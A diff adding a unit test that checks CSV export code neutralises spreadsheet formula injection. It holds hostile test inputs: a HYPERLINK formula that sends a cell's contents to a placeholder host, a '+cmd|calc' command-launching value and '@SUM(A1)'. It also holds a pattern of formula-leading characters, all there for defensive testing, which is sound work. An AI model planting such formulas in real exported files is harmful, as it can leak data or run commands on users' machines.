@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { ExperimentResult, ModelResult } from '../engine/types';
-import { resultCsv, runsCsv } from './runFiles';
+import { csvCell, resultCsv, runsCsv } from './runFiles';
 
 function model(role: ModelResult['role'], label: string, acc: number, disp: (number | null)[]): ModelResult {
   return {
@@ -81,5 +81,42 @@ describe('run files', () => {
     expect(lines[3]).toBe(
       'second,r2,teacher,Teacher,none,0,1234,0.9,0.9,0.5,0.6,0.55,0.1,0.1,0.3,0.05,0.05,,,,,,,,,0.4,,0.1,,-0.3',
     );
+  });
+
+  it('neutralises every text cell a spreadsheet would run as a formula, in both CSVs, and leaves numbers alone', () => {
+    const evil = '=HYPERLINK("http://x/?"&B2,"open me")';
+    expect(csvCell(evil)).toBe(`"'=HYPERLINK(""http://x/?""&B2,""open me"")"`);
+    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
+      expect(
+        csvCell(`${lead}1+1`).startsWith(`'`) || csvCell(`${lead}1+1`).startsWith(`"'`),
+        JSON.stringify(lead),
+      ).toBe(true);
+    expect(csvCell('Teacher')).toBe('Teacher');
+    expect(csvCell('a=b')).toBe('a=b'); // only a leading character starts a formula
+    expect(csvCell(-0.25)).toBe('-0.25'); // a negative number stays a number
+    expect(csvCell(1e-7)).toBe('1e-7');
+    const hostile = {
+      ...result,
+      dataset: { ...result.dataset, classNames: ['@SUM(A1)', 'party'] },
+      students: [{ ...result.students[0], label: '+cmd|calc' }],
+    } as unknown as ExperimentResult;
+    const all = runsCsv([{ id: '-r1', name: evil, createdAt: '', result: hostile }]);
+    const one = resultCsv(hostile);
+    for (const csv of [all, one]) {
+      // No cell of either file begins with a formula character once its quotes are taken off.
+      const cells = csv
+        .trim()
+        .split('\n')
+        .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')))
+        .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
+      const formulas = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9.]/.test(c));
+      expect(formulas).toEqual([]);
+    }
+    expect(all.split('\n')[1].startsWith(`"'=HYPERLINK(`)).toBe(true);
+    expect(all.split('\n')[1]).toContain(`,'-r1,`);
+    expect(all.split('\n')[0]).toContain(',disparity_@SUM(A1),'); // a header that does not begin with one stays as it is
+    expect(one).toContain(`,'+cmd|calc,`);
+    // Negative disparities are written as numbers, not neutralised text.
+    expect(one.split('\n')[1].endsWith(',0.1,-0.3')).toBe(true);
   });
 });
